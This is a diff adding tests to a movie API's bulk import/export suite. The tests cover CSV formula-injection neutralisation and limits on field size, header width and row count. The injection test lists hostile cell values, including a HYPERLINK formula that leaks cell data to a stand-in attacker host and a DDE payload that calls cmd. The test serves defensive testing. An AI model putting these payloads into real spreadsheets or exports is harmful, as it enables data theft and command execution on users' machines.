@@ -5,6 +5,8 @@ import { test } from 'node:test';
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
 import { parse } from 'csv-parse/sync';
+import { importMovies, MAX_IMPORT_ROWS } from '../src/movies/bulk.ts';
+import { PayloadTooLargeError } from '../src/platform/errors.ts';
 import { buildTestApp } from './helpers.ts';
 
 setFlagsFromString('--expose-gc');
@@ -235,4 +237,99 @@ test('when another method is used on the bulk paths, then 405 with Allow', async
   const post = await t.api({ method: 'POST', url: '/v1/movies/export' });
   assert.equal(post.statusCode, 405);
   assert.equal(post.headers.allow, 'GET, OPTIONS');
+});
+
+test('when titles and genres start with = + - @, a tab or a carriage return, then the CSV export writes them quoted behind a single quote, and importing the export gives them back unchanged', async () => {
+  const titles = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+    '+cmd',
+    '-1+1',
+    '\tcmd',
+    '\r=cmd',
+    '-30-',
+    "'=already quoted",
+    'Plain, with a comma',
+  ];
+  for (const title of titles) {
+    const created = await t.api({
+      method: 'POST',
+      url: '/v1/movies',
+      payload: { title, year: 2000, runtime: '90 mins', genres: ['=csv-formula', 'two'] },
+    });
+    assert.equal(created.statusCode, 201, created.body);
+  }
+  const res = await t.api('/v1/movies/export?format=csv&genres=%3Dcsv-formula');
+  assert.equal(res.statusCode, 200);
+  const lines = res.body.split('\r\n');
+  assert.match(
+    lines[1] ?? '',
+    /^\d+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click""\)",2000,90 mins,"'=csv-formula,two",1$/,
+  );
+  const records = (parse(res.body) as string[][]).slice(1);
+  assert.deepEqual(
+    records.map((r) => r[1]),
+    [
+      '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      '\'@SUM(1+1)*cmd|" /C calc"!A0',
+      "'+cmd",
+      "'-1+1",
+      "'\tcmd",
+      "'\r=cmd",
+      "'-30-",
+      "''=already quoted",
+      'Plain, with a comma',
+    ],
+  );
+  // Every neutralised cell is quoted, so no spreadsheet reads past the quote either.
+  for (const record of records) assert.equal(record[4], "'=csv-formula,two");
+  for (const cell of ['+cmd', '-1+1', '\tcmd', '-30-']) assert.ok(res.body.includes(`,"'${cell}",`), cell);
+
+  const again = await upload('/v1/movies/import?format=csv', res.body);
+  assert.deepEqual(again.body, { imported: titles.length, failed: 0, errors: [] });
+  const { rows } = await t.db.query<{ title: string; genres: string[] }>(
+    "SELECT title, genres FROM movies WHERE '=csv-formula' = ANY(genres) ORDER BY id",
+  );
+  assert.deepEqual(
+    rows.map((r) => r.title),
+    [...titles, ...titles],
+  );
+  assert.ok(rows.every((r) => r.genres.join(',') === '=csv-formula,two'));
+});
+
+test('when a CSV field is larger than 65536 bytes, then 413 naming the record, and nothing is stored', async () => {
+  const huge = `title,year,runtime,genres\n"${'x'.repeat(20_000_000)}",2000,90 mins,csv-huge\n`;
+  const res = await t.api({ method: 'POST', url: '/v1/movies/import?format=csv', payload: huge });
+  assert.equal(res.statusCode, 413);
+  assert.deepEqual(res.json(), { error: 'CSV record at line 2 must not be larger than 65536 bytes' });
+  assert.equal(await count("'csv-huge' = ANY(genres)"), 0);
+});
+
+test('when a CSV header has a million columns, then 400 naming the limit of 16 fields', async () => {
+  const wide = `${'c,'.repeat(1_000_000)}c\nNever,2000,90 mins,csv-wide\n`;
+  const res = await t.api({ method: 'POST', url: '/v1/movies/import?format=csv', payload: wide });
+  assert.equal(res.statusCode, 400);
+  assert.deepEqual(res.json(), { error: 'CSV record at line 1 must not have more than 16 fields' });
+  assert.equal(await count("'csv-wide' = ANY(genres)"), 0);
+});
+
+test('when an import has more rows than its cap, then it stops there with 413 naming the cap', async () => {
+  // The route's cap is 1,000,000 (MAX_IMPORT_ROWS); reaching it over HTTP takes a minute of
+  // row checks, so the same import runs here with a cap of 10, on the test's database.
+  const rows = Array.from({ length: 11 }, (_, n) =>
+    JSON.stringify({ title: `Capped ${n}`, year: 2000, runtime: '90 mins', genres: ['capped'] }),
+  );
+  await assert.rejects(
+    importMovies(t.db, Readable.from([Buffer.from(rows.join('\n'))]), {
+      format: 'ndjson',
+      atomic: true,
+      maxBytes: 1_000_000,
+      workers: 1,
+      maxRows: 10,
+    }),
+    (err: Error) =>
+      err instanceof PayloadTooLargeError && err.message === 'import must not have more than 10 rows',
+  );
+  assert.equal(MAX_IMPORT_ROWS, 1_000_000);
+  assert.equal(await count("'capped' = ANY(genres)"), 0);
 });
